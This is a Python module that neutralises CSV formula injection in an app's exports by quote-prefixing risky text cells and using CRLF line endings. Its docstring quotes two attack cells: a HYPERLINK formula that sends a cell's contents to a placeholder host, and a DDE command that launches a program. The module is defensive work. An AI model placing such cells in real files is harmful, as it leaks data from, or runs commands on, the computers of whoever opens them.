"""CSV that a spreadsheet opens as data, never as formulas.

Model output, dataset prompts, reward errors and metric names reach the CSV exports, and any
logged-in user may export any run: a cell such as `=HYPERLINK("http://x/?"&A1,"click")` or
`+cmd|' /C calc'!A0` would run when a person opens the file in Excel, LibreOffice or Sheets.
OWASP's rule (CSV injection): a text cell that starts with `=`, `+`, `-`, `@`, a tab or a
carriage return is prefixed with a single quote, which spreadsheets show as text. Numbers are
written as numbers (a negative number is not a formula), so only `str` cells are touched.
The csv module has no such option; this is the one place every CSV of the app goes through.
"""
from __future__ import annotations

import csv
from typing import Any, Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet will show it literally (text only; numbers pass unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose every text cell goes through `safe_cell`. Lines end in CRLF (RFC
    4180): the writer then quotes any cell holding a CR or LF, so a model's "\r" cannot split
    a row (with a bare "\n" terminator a lone CR went out unquoted)."""

    def __init__(self, stream):
        self._writer = csv.writer(stream, lineterminator="\r\n")

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])
